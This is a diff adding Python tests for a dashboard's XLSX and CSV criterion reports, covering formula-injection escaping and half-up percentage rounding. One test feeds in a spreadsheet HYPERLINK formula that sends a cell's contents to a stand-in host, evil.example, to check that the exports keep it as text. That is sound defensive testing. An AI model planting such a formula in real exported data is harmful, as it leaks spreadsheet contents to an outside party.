@@ -1,6 +1,8 @@
 """The criterion report (XLSX, CSV) and the dashboard page."""
+import csv
 import io
 from datetime import date, datetime, timedelta, timezone
+from decimal import Decimal
 
 from openpyxl import load_workbook
 
@@ -70,3 +72,46 @@ def test_the_public_dashboard_hides_the_to_do_list(client, db):
     assert page.status_code == 200 and "Tiệm May Cô Lan" not in page.text
     assert client.get("/stats/street/abc").status_code == 404
     assert client.get("/stats/street/999999").status_code == 404
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&B3,"Xem")'
+
+
+def test_a_village_name_that_looks_like_a_formula_stays_text_in_both_reports(client, db):
+    factories.stats_indicators()
+    street = factories.street(factories.village(name=HOSTILE), name="+SUM(A1)")
+    db.session.commit()
+    query = {"scope": f"street:{street.id}", "date": "2026-06-30"}
+    sheet = load_workbook(io.BytesIO(client.get("/api/v1/stats/report.xlsx", query_string=query).data)).active
+    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert any(HOSTILE in value for value in values)
+    rows = list(csv.reader(io.StringIO(client.get("/api/v1/stats/report.csv", query_string=query)
+                                       .data.decode("utf-8-sig"))))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_the_report_rounds_half_up_once_from_the_raw_counts(client, db):
+    from market.stats.report import _share
+
+    assert _share({"actual": 0.5225, "counts": (522523, 1_000_000)}) == Decimal("0.523")
+    assert _share({"actual": 0.5224, "counts": (52245, 100_000)}) == Decimal("0.522")  # 52.245 % → 52,2 %
+    assert _share({"actual": 0.1235, "counts": None}) == Decimal("0.124")
+    street = _street_with_one_of_sixteen_accepting(db)
+    query = {"scope": f"street:{street.id}", "date": "2026-06-30"}
+    text = client.get("/api/v1/stats/report.csv", query_string=query).data.decode("utf-8-sig")
+    assert "6,3 %" in text and "6,2 %" not in text  # 1/16 = 6.25 %: half-up, not half-even
+    sheet = load_workbook(io.BytesIO(client.get("/api/v1/stats/report.xlsx", query_string=query).data)).active
+    assert any(c.value == 0.063 for row in sheet.iter_rows() for c in row)
+
+
+def _street_with_one_of_sixteen_accepting(db):
+    factories.stats_indicators()
+    street = factories.street()
+    for n in range(16):
+        merchant = factories.merchant(street.village, street_id=street.id, created_at=LONG_AGO)
+        if n < 1:
+            factories.account(merchant, created_at=LONG_AGO)
+    db.session.commit()
+    return street
